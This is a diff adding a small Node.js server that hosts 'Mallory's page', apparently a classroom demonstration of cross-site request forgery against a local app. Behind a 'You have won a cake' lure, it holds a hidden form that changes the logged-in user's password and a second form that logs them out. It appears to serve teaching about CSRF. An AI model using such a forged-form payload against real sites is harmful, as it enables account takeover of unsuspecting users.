@@ -1,0 +1,28 @@
+/*
+ * Mallory's page, to be opened in your own browser while ada is logged in there.
+ */
+import { createServer } from 'node:http';
+
+const { PORT = '4000' } = process.env;
+const app = `http://localhost:${PORT}`;
+
+const page = `<!doctype html>
+<html lang="en">
+<meta charset="utf-8">
+<title>You have won!</title>
+<h1>You have won a cake!</h1>
+<form method="post" action="${app}/account/password">
+  <input type="hidden" name="new" value="set by mallory">
+  <button>Get my cake</button>
+</form>
+<form method="post" action="${app}/logout">
+  <button>No, thanks</button>
+</form>
+</html>
+`;
+
+createServer((req, res) => {
+  res.setHeader('Content-Type', 'text/html').end(page);
+}).listen(4666, 'localhost', () => {
+  console.log("Mallory's page: http://localhost:4666. Ctrl-C takes it down.");
+});
